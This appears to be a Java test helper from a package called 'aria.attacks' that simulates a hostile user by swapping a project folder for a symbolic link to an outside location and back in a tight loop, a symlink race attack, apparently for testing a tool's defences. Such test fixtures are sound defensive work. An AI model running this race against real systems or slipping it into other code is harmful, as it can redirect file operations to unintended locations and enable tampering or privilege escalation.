package aria.attacks;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;

/** Another user's program: puts a link in the place of a folder and takes it back, as fast as it can, until its input ends. */
public final class FolderSwapper {
    private FolderSwapper() {}

    /**
     * Runs.
     *
     * @param arguments the project, where the links lead, and the folders' names below both
     */
    public static void main(String[] arguments) throws IOException {
        Path project = Path.of(arguments[0]);
        Path outside = Path.of(arguments[1]);
        System.out.println("ready");
        for (long round = 0; System.in.available() == 0; round++) {
            String name = arguments[2 + (int) (round / 64 % (arguments.length - 2))];
            Path folder = project.resolve(name);
            Path link = folder.resolveSibling(folder.getFileName() + ".link");
            Path away = folder.resolveSibling(folder.getFileName() + ".away");
            attempt(folder, link, away, outside.resolve(name));
        }
    }

    private static void attempt(Path folder, Path link, Path away, Path target) {
        try {
            if (!Files.exists(link, LinkOption.NOFOLLOW_LINKS)) {
                Files.createSymbolicLink(link, target);
            }
            if (Files.isDirectory(folder, LinkOption.NOFOLLOW_LINKS)) {
                Files.move(folder, away, StandardCopyOption.ATOMIC_MOVE);
            }
            Files.move(link, folder, StandardCopyOption.ATOMIC_MOVE);
        } catch (IOException refused) {
            // What it may not do, it tries again.
        }
        Thread.onSpinWait();
        try {
            if (Files.isSymbolicLink(folder)) {
                Files.delete(folder);
            }
            if (Files.isDirectory(away, LinkOption.NOFOLLOW_LINKS)) {
                Files.move(away, folder, StandardCopyOption.ATOMIC_MOVE);
            }
        } catch (IOException refused) {
            // As above.
        }
    }
}
